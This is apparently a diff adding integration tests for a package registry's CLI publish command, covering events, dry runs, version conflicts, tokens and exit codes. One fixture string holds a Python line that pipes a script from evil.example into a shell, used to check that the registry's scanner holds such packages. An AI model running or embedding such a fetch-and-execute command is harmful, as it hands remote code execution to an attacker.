@@ -1,0 +1,179 @@
+import assert from 'node:assert/strict';
+import { after, test } from 'node:test';
+import { join } from 'node:path';
+import { makePublisher, uniqueId } from '../../../server/test/support/build.ts';
+import { startServer } from '../../../server/test/support/start-server.ts';
+import { suite } from '../../../server/test/support/variants.ts';
+import { writeFiles } from '../support/make-folder.ts';
+import { makeProject } from '../support/make-project.ts';
+import { openCli } from '../support/open-cli.ts';
+
+/** Runs another program: the checks hold such a package. */
+const hostile = 'import os\nos.system("curl https://evil.example/x | sh")\n';
+
+suite('patchbay publish', async () => {
+  const server = await startServer({ after });
+  const ada = await makePublisher(server, 'ada');
+  const cli = await openCli({ after }, { url: server.url, token: ada.token });
+  const project = (texts: Partial<Parameters<typeof makeProject>[1]> = {}) =>
+    makeProject(cli.cwd, { nodeId: uniqueId('node'), publisherId: 'ada', ...texts });
+  const versionsOf = async (nodeId: string) =>
+    (
+      await ada.owner.get(
+        `/nodes/${nodeId}/versions?statuses=NodeVersionStatusActive&statuses=NodeVersionStatusFlagged`,
+      )
+    ).json;
+
+  test('--json: from a folder to Active, with each step as an event', async () => {
+    const nodeId = uniqueId('steps');
+    const folder = await project({ nodeId });
+    const { code, result, events } = await cli.json(['publish', folder, '--changelog', 'The first.']);
+    assert.equal(code, 0, JSON.stringify(result));
+    assert.equal(result.data.outcome, 'active');
+    assert.equal(result.data.node_version.package_sha256, result.data.package.sha256);
+    assert.equal(result.data.node_version.changelog, 'The first.');
+    assert.deepEqual(
+      events.map(({ type }) => type).filter((type, index, all) => type !== all[index - 1]),
+      ['packed', 'checked', 'published', 'uploading', 'uploaded', 'waiting'],
+    );
+    const [version, ...others] = await versionsOf(nodeId);
+    assert.deepEqual([version.version, version.status, others], ['1.0.0', 'NodeVersionStatusActive', []]);
+  });
+
+  test('in a terminal: what became of it, and where it is', async () => {
+    const nodeId = uniqueId('terminal');
+    const { code, stdout, stderr } = await cli.inTerminal(['publish', await project({ nodeId })]);
+    assert.equal(code, 0, stderr);
+    assert.match(stdout, new RegExp(`${nodeId} 1\\.0\\.0 is Active on http`));
+    assert.match(stdout, /\/packages\/ada\//);
+    assert.match(stderr, /Uploading: 100 %/);
+  });
+
+  test('what is published already is waited for again, and stays one version', async () => {
+    const nodeId = uniqueId('again');
+    const folder = await project({ nodeId });
+    await cli.json(['publish', folder]);
+    const { code, result, events } = await cli.json(['publish', folder]);
+    assert.deepEqual([code, result.data.outcome, result.data.was_published], [0, 'active', true]);
+    assert.ok(!events.some(({ type }) => type === 'uploading'), 'nothing is sent twice');
+    assert.equal((await versionsOf(nodeId)).length, 1);
+  });
+
+  test('5: another content under a version that is published', async () => {
+    const nodeId = uniqueId('other');
+    const folder = await project({ nodeId });
+    await cli.json(['publish', folder]);
+    await writeFiles(folder, { '__init__.py': 'VERSION = 2\n' });
+    const { code, result } = await cli.json(['publish', folder]);
+    assert.deepEqual([code, result.error.code], [5, 'version_exists']);
+    assert.match(result.error.message, /published with another content/);
+    assert.match(result.error.next, /another version number/);
+  });
+
+  test('what the checks hold is not sent, unless somebody says so', async () => {
+    const nodeId = uniqueId('held');
+    const folder = await project({ nodeId, files: { 'evil.py': hostile } });
+    const stopped = await cli.run(['publish', folder]);
+    assert.equal(stopped.code, 1);
+    assert.match(stopped.stdout, /error {2}evil\.py:2 /);
+    assert.match(stopped.stdout, /was not sent.*--held/);
+    assert.equal((await server.anonymous.get(`/nodes/${nodeId}`)).status, 404);
+
+    const { code, result } = await cli.json(['publish', folder, '--held']);
+    assert.deepEqual([code, result.ok, result.data.outcome], [1, false, 'held']);
+    assert.equal(result.data.node_version.status, 'NodeVersionStatusFlagged');
+    assert.ok(result.data.reason && result.data.way_out && result.data.findings.length > 0);
+  });
+
+  test('--dry-run: what the registry says, and nothing is there afterwards', async () => {
+    const nodeId = uniqueId('dry');
+    const folder = await project({ nodeId });
+    const { code, result } = await cli.json(['publish', folder, '--dry-run']);
+    assert.deepEqual([code, result.data.outcome], [0, 'dry-run'], JSON.stringify(result));
+    assert.equal(result.data.dry_run.package.package_sha256, result.data.package.sha256);
+    assert.equal((await server.anonymous.get(`/nodes/${nodeId}`)).status, 404);
+
+    await cli.run(['publish', folder, '--no-wait']);
+    const again = await cli.run(['publish', folder, '--dry-run']);
+    assert.equal(again.code, 1);
+    assert.match(again.stdout, /refused {2}Version "1\.0\.0".*would be refused by http/s);
+  });
+
+  test('check asks the registry, too, if there is a token or --remote', async () => {
+    const folder = await project();
+    const asked = await cli.json(['check', folder]);
+    assert.deepEqual([asked.code, asked.result.data.dry_run.wouldPublish], [0, true]);
+    const local = await cli.json(['check', folder, '--no-remote']);
+    assert.equal(local.result.data.dry_run, undefined);
+    const stranger = await openCli({ after }, { url: server.url });
+    assert.equal((await stranger.json(['check', folder])).result.data.dry_run, undefined);
+    assert.equal((await stranger.json(['check', folder, '--remote'])).result.error.code, 'not_signed_in');
+    await cli.run(['publish', folder, '--no-wait']);
+    const refused = await cli.run(['check', folder]);
+    assert.equal(refused.code, 1);
+    assert.match(refused.stdout, /refused {2}Version "1\.0\.0"/);
+  });
+
+  test('--no-wait ends with the upload', async () => {
+    const { code, result } = await cli.json(['publish', await project(), '--no-wait']);
+    assert.deepEqual([code, result.data.outcome], [0, 'sent']);
+  });
+
+  test('a zip is published as it is', async () => {
+    const zip = join(cli.cwd, 'zipped.zip');
+    const packed = await cli.json(['pack', await project(), '--out', zip]);
+    const { code, result } = await cli.json(['publish', zip, '--no-wait']);
+    assert.equal(code, 0, JSON.stringify(result));
+    assert.equal(result.data.package.sha256, packed.result.data.package.sha256);
+  });
+
+  test('a session makes a token for the publish, and revokes it', async () => {
+    const session = await openCli({ after }, { url: server.url, token: ada.owner.bearer });
+    const nodeId = uniqueId('session');
+    const { code, result } = await session.json(['publish', await project({ nodeId })], {
+      context: { now: server.clock.now },
+    });
+    assert.equal(code, 0, JSON.stringify(result));
+    const tokens = (await ada.owner.get('/publishers/ada/tokens')).json;
+    assert.deepEqual(
+      tokens.map(({ name }: { name: string }) => name),
+      ['all'],
+    );
+  });
+
+  test("the variable of a host's CI recipes, if it holds a token of ours", async () => {
+    const stranger = await openCli({ after }, { url: server.url });
+    const folder = await project();
+    const publish = (token: string) =>
+      stranger.json(['publish', folder], { env: { REGISTRY_ACCESS_TOKEN: token } });
+    assert.equal((await publish('of-another-registry')).result.error.code, 'not_signed_in');
+    assert.equal((await publish(ada.token)).code, 0);
+  });
+
+  test('3: nobody is signed in, or the token is not good here', async () => {
+    const folder = await project();
+    const stranger = await openCli({ after }, { url: server.url });
+    const nobody = await stranger.json(['publish', folder]);
+    assert.deepEqual([nobody.code, nobody.result.error.code], [3, 'not_signed_in']);
+    const bob = await makePublisher(server, uniqueId('bob'));
+    const other = await stranger.json(['publish', folder], { env: { PATCHBAY_TOKEN: bob.token } });
+    assert.deepEqual([other.code, other.result.error.code], [3, 'forbidden']);
+  });
+
+  test('2, 1: no project, no publisher, a project with faults', async () => {
+    const folder = await project({ publisherId: '' });
+    const nothing = await cli.json(['publish', join(cli.cwd, 'nowhere')]);
+    assert.deepEqual([nothing.code, nothing.result.error.code], [2, 'no_project']);
+    const unknown = await cli.json(['publish', folder]);
+    assert.deepEqual([unknown.code, unknown.result.error.code], [1, 'invalid_project']);
+    assert.match(unknown.result.error.next, /--publisher/);
+    const given = await cli.json(['publish', folder, '--publisher', 'ada', '--no-wait']);
+    assert.equal(given.code, 0);
+    await writeFiles(folder, { 'pyproject.toml': '[project]\nname = 1\n' });
+    const faulty = await cli.json(['publish', folder]);
+    assert.deepEqual(
+      faulty.result.error.details.map(({ path }: { path: string }) => path),
+      ['/project/name'],
+    );
+  });
+});
